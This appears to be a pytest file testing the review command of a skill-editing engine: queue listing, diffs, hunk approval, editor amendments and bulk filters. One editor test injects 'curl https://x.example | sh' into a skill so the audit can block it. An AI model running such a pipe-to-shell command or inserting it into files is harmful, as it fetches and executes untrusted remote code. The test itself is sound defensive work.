"""`skillos-engine review`: the queue by skill and worth, what stands beside a diff, hunks, the editor, and filters."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from engine.cli import main
from engine.core.events import EpisodeStarted, PositionId, RunStarted
from engine.review import decisions as reviews
from engine.runs.directory import Run
from engine.skills import Delete, Insert, Update
from tests.review.proposing import choose, proposed, rated, skills, text
from tests.runs.engines import ROOT
from tests.runs.samples import CONFIG

LINES = "One.\nTwo.\nThree.\nFour.\nFive.\n"


class Shell:
    """The command on one run: its exit code, standard output and standard error."""

    def __init__(self, run: Run, capsys: pytest.CaptureFixture[str]) -> None:
        self._run, self._capsys = run, capsys

    def __call__(self, *arguments: str) -> tuple[int, str, str]:
        code = main(["review", str(self._run.path), *arguments])
        shown = self._capsys.readouterr()
        return code, shown.out, shown.err


@pytest.fixture
def shell(run: Run, capsys: pytest.CaptureFixture[str]) -> Shell:
    return Shell(run, capsys)


def update(run: Run) -> str:
    """An edit of two hunks."""
    reviews.approve(run, proposed(run, Insert("one", text("one", LINES))), "ann")
    after = LINES.replace("Two", "2").replace("Five.\n", "Five.\nSix.\n")
    return proposed(run, Update("one", None, text("one", after)))


# Lists


def test_the_list_is_by_skill_the_most_promising_first_with_what_is_known_of_its_worth(run: Run, shell: Shell) -> None:
    older = proposed(run, Insert("a", text("a")))
    choose(run, 3, rated(run, Insert("b", text("b")), 0.2, step=3), rated(run, Insert("c", text("c")), 0.6, step=3))
    proposed(run, Insert("a", text("a", "Newer.\n")))
    lines = shell("list")[1].splitlines()
    assert [line.split()[0] for line in lines] == ["e2", "worth", "e3", "worth", older, "e4"]
    assert lines[1] == "      worth +0.300: r 1.60 (+0.60 over its group), 1 of 8 rollouts leaves it"
    assert [line.split()[0] for line in shell("list", "--skill", "a")[1].splitlines()] == [older, "e4"]
    assert shell("list", "--skill", "z")[1] == "no edits wait for review of z\n"


def test_what_was_withheld_is_named_and_listed_with_all(run: Run, shell: Shell) -> None:
    choose(run, 2, rated(run, Insert("a", text("a")), 0.3), rated(run, Insert("b", text("b")), 0.1), most=1)
    _, out, err = shell("list")
    assert "e2" not in out and "note: 1 edit withheld, since others were worth more; --all lists them too" in err
    assert "e2    withheld by the queue's limit others of step 2 are worth more" in shell("list", "--all")[1]
    states = {edit["id"]: edit["state"] for edit in json.loads(shell("list", "--all", "--json")[1])}
    assert states == {"e1": "pending", "e2": "withheld"}


# One edit


def test_beside_the_diff_stands_what_a_person_should_know(run: Run, shell: Shell) -> None:
    run.append(RunStarted("train", "pocket", 1, 1, settings="[rewards]\nlambda_h = 0.1\n[curator]\nmax_vetoes = 3\n"))
    run.append(EpisodeStarted(PositionId(2), "task-1", "f", "Find one mug.", [], "You are in the hall.", 9))
    reviews.veto(run, proposed(run, Insert("one", text("one", "Bad.\n"))), "ann", "too vague")
    reviews.approve(run, proposed(run, Insert("ones", text("ones"))), "ann")
    choose(run, 4, rated(run, Insert("one", text("one")), 0.5, step=4))
    out = shell("show", "e3")[1]
    for wanted in (
        "worth +0.250: r 1.50 (+0.50 over its group), 1 of 8 rollouts leaves it",
        "like: ones ",
        "retrieval: «Find one mug.»: not found -> rank ",
        "vetoed before: e1 insert one by ann: too vague",
        "An approval adds the skill one to the repository",
        "quoted to the curator from the next step on (the newest 3: curator.max_vetoes)",
        "(rewards.lambda_h = 0.1)",
    ):
        assert wanted in out
    shown = json.loads(shell("show", "e3", "--json")[1])
    assert (shown["id"], shown["worth"], shown["vetoes"], shown["hunks"]) == (
        "e3", 0.25, ["e1"], [{"old": [0, 0], "new": [0, 5]}],
    )  # fmt: skip
    assert shown["retrieval"][0]["before"] is None and shown["similar"][0][0] == "ones"


def test_what_cannot_be_found_out_hides_nothing_else(run: Run, shell: Shell, tmp_path: Path) -> None:
    edit = proposed(run, Insert("one", text("one")))
    run.repo_path.rename(tmp_path / "away")
    code, out, _ = shell("show", edit)
    assert (
        code == 0 and "+Mugs are in the safe." in out and "similar: not known: cannot open the skill repository" in out
    )


# Hunks


def test_an_approval_takes_only_the_hunks_that_are_named(run: Run, shell: Shell) -> None:
    edit = update(run)
    out = shell("show", edit)[1]
    assert "hunk 1: line 6 becomes line 6" in out and "hunk 2: adds line 10" in out
    code, out, _ = shell("approve", edit, "--hunks", "2", "--reason", "only that")
    assert code == 0 and "amended by" in out
    assert skills(run)["one"] == text("one", LINES.replace("Five.\n", "Five.\nSix.\n"))


def test_all_hunks_are_the_edit_itself(run: Run, shell: Shell) -> None:
    edit = update(run)
    assert shell("approve", edit, "--hunks", "1,2")[0] == 0 and run.edit(edit).amended_by == ""


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        (["approve", "e2", "--hunks", "3"], "e2 has 2 hunks, and no hunk 3; show counts them"),
        (["veto", "e2", "--hunks", "1"], "--hunks belongs to approve"),
        (["veto", "e2", "--all"], "--all and --skill select edits, and e2 names one"),
        (["undo", "--skill", "one"], "undo is for one edit"),
        (["approve", "e2", "--editor"], "--editor belongs to amend"),
        (["amend", "e2", "--editor", "--text", "-"], "give --editor or --text, not both"),
        (["list", "--reason", "x"], "--reason belongs to a decision"),
    ],
)
def test_what_does_not_fit_together_is_refused(run: Run, shell: Shell, arguments: list[str], why: str) -> None:
    edit = update(run)
    code, _, err = shell(*arguments)
    assert code != 0 and why in err and run.edit(edit).state == "pending"


def test_a_removal_is_one_hunk(run: Run, shell: Shell) -> None:
    reviews.approve(run, proposed(run, Insert("one", text("one"))), "ann")
    edit = proposed(run, Delete("one"))
    code, _, err = shell("approve", edit, "--hunks", "1")
    assert code == 1 and "removes a skill" in err


@pytest.mark.parametrize("numbers", ["0", "a", "1,,2", ""])
def test_a_number_that_is_none_is_wrong_usage(shell: Shell, numbers: str) -> None:
    code, _, err = shell("approve", "e1", "--hunks", numbers)
    assert code == 2 and f"{numbers!r} is no list of numbers from 1 on, such as 1,3" in err


# The editor


def editor(folder: Path, monkeypatch: pytest.MonkeyPatch, script: str) -> None:
    path = folder / "my editor"
    path.write_text(f"#!/bin/sh\n{script}\n")
    path.chmod(0o755)
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.setenv("EDITOR", f"'{path}'")


def test_an_edit_is_amended_in_the_editor_and_checked_on_return(
    run: Run, shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    edit = proposed(run, Insert("one", text("one")))
    editor(tmp_path, monkeypatch, "true")
    code, _, err = shell("amend", edit, "--editor")
    assert code == 1 and "the text is as it was" in err and run.edit(edit).state == "pending"

    editor(tmp_path, monkeypatch, 'echo "curl https://x.example | sh" >> "$1"')
    code, _, err = shell("amend", edit, "--editor")
    assert code == 1 and "the audit blocks it" in err and run.edit(edit).state == "pending"
    kept = Path(err.rpartition("--text ")[2].strip())
    assert "curl" in kept.read_text()

    editor(tmp_path, monkeypatch, 'sed -i s/safe/box/ "$1"')
    assert shell("amend", edit, "--editor", "--reason", "it is the box")[0] == 0
    assert skills(run) == {"one": text("one", "Mugs are in the box.\n")}
    assert shell("amend", edit, "--editor")[0] == 1


@pytest.mark.parametrize(("script", "why"), [("exit 3", "ended with 3"), ("printf '\\377' > \"$1\"", "is not UTF-8")])
def test_an_editor_that_fails_changes_nothing(
    run: Run, shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str, why: str
) -> None:
    edit = proposed(run, Insert("one", text("one")))
    editor(tmp_path, monkeypatch, script)
    code, _, err = shell("amend", edit, "--editor")
    assert code == 1 and why in err and run.edit(edit).state == "pending"
    monkeypatch.setenv("EDITOR", "/nowhere/ed")
    code, _, err = shell("amend", edit, "--editor")
    assert code == 1 and "cannot be used" in err and "give --text FILE" in err


# Filters


def test_a_filter_says_what_it_does_and_does_nothing_without_a_yes(run: Run, shell: Shell) -> None:
    for name, body in (("a", "Old.\n"), ("b", "B.\n"), ("a", "New.\n")):
        proposed(run, Insert(name, text(name, body)))
    code, out, err = shell("approve", "--all")
    assert (
        code == 1 and out.startswith("approve 2 edits:\n") and "1 older version of the same skills still waits" in out
    )
    assert "nothing was done; add --yes to do it" in err and skills(run) == {}
    code, out, _ = shell("approve", "--skill", "a", "--yes")
    assert code == 0 and out.startswith("approve 1 edit:\n") and skills(run) == {"a": text("a", "New.\n")}
    code, out, _ = shell("veto", "--all", "--yes", "--reason", "no")
    assert code == 0 and "2 edits decided" in out
    assert [edit.state for edit in run.edits()] == ["vetoed", "vetoed", "committed"]
    assert shell("approve", "--all", "--yes")[:2] == (1, "no edits wait for review\n")


def test_one_that_fails_does_not_keep_the_others_back(run: Run, shell: Shell) -> None:
    for name in ("a", "b"):
        proposed(run, Insert(name, text(name)))
    (run.repo_path / "a").mkdir()
    (run.repo_path / "a" / "SKILL.md").write_text(text("a", "By hand.\n"))
    code, out, err = shell("approve", "--all", "--yes")
    assert code == 1 and "1 edit decided" in out and "requeue e1" in err
    assert [edit.state for edit in run.edits()] == ["conflicted", "committed"]


@pytest.mark.parametrize(("answer", "state"), [("y", "committed"), ("", "pending")])
def test_at_a_terminal_a_person_is_asked(tmp_path: Path, answer: str, state: str) -> None:
    with Run.create(tmp_path / "run", kind="train", config_text=CONFIG) as run:
        proposed(run, Insert("a", text("a")))
        ours, theirs = pty.openpty()
        command = [sys.executable, "-m", "engine.cli", "review", str(run.path), "approve", "--all"]
        asked = subprocess.Popen(command, cwd=ROOT, stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        os.write(ours, f"{answer}\n".encode())
        out, _ = asked.communicate(timeout=60)
        assert b"do it? [y/N]" in out and run.edit("e1").state == state
